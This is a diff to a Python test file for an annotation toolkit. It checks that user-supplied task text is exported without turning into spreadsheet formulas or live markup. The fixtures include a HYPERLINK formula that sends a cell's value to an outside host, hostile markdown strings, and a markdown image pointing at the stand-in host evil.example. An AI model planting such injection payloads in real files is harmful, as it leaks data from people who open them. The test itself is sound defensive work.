@@ -8,6 +8,7 @@ from xml.etree import ElementTree
 import pandas as pd
 import pytest
 import yaml
+from markdown_it import MarkdownIt
 
 from bias_core.annotation.answers import read_answers
 from bias_core.annotation.collected import COLUMNS, answers_frame, export_labels, labelled_items
@@ -18,6 +19,7 @@ from bias_core.annotation.tasks import pst_task
 from bias_core.errors import NotAllowed, StorageError
 from bias_core.studies.kit.labels import majority
 from tests.annotation.raters import CHOICES, GOLD, open_task, pictures, say_all
+from tests.hostile_markdown import HOSTILE_WORDS, Page
 
 FORMULA = '=HYPERLINK("http://example.com?x="&A1,"<b>nurse</b>")'
 
@@ -147,7 +149,8 @@ def test_the_card_says_what_was_asked_and_of_how_many(task, out):
 
 
 def test_nothing_that_was_written_becomes_a_formula_or_markup(store, tmp_path):
-    texts = {"title": f"{FORMULA}\n---\nlicense: mit", "instructions": FORMULA, "content_note": FORMULA}
+    hostile = "\n\n".join(words for words in HOSTILE_WORDS if words.isprintable())
+    texts = {"title": f"{FORMULA}\n---\nlicense: mit", "instructions": f"{FORMULA}\n{hostile}", "content_note": FORMULA}
     (picture,) = pictures(tmp_path / "originals", 1)
     picture = replace(picture, image_id=FORMULA, identities={"left": FORMULA, "right": "\t=1+1"})
     made = create_task(store, pst_task(paired=True, **texts), [picture])
@@ -161,6 +164,11 @@ def test_nothing_that_was_written_becomes_a_formula_or_markup(store, tmp_path):
     head, _, body = card.removeprefix("---\n").partition("\n---\n")
     assert yaml.safe_load(head)["license"] == "other"
     assert "<b>" not in body
+    guidelines = json.loads((out / "argilla" / "settings.json").read_text())["guidelines"]
+    for text in (body, guidelines):
+        page = Page(MarkdownIt("commonmark").enable("table").render(text))
+        assert page.loaded == []
+        assert "![x](http://evil.example/x.png)" in page.text
     ElementTree.parse(out / "label_studio" / "config.xml")
 
 
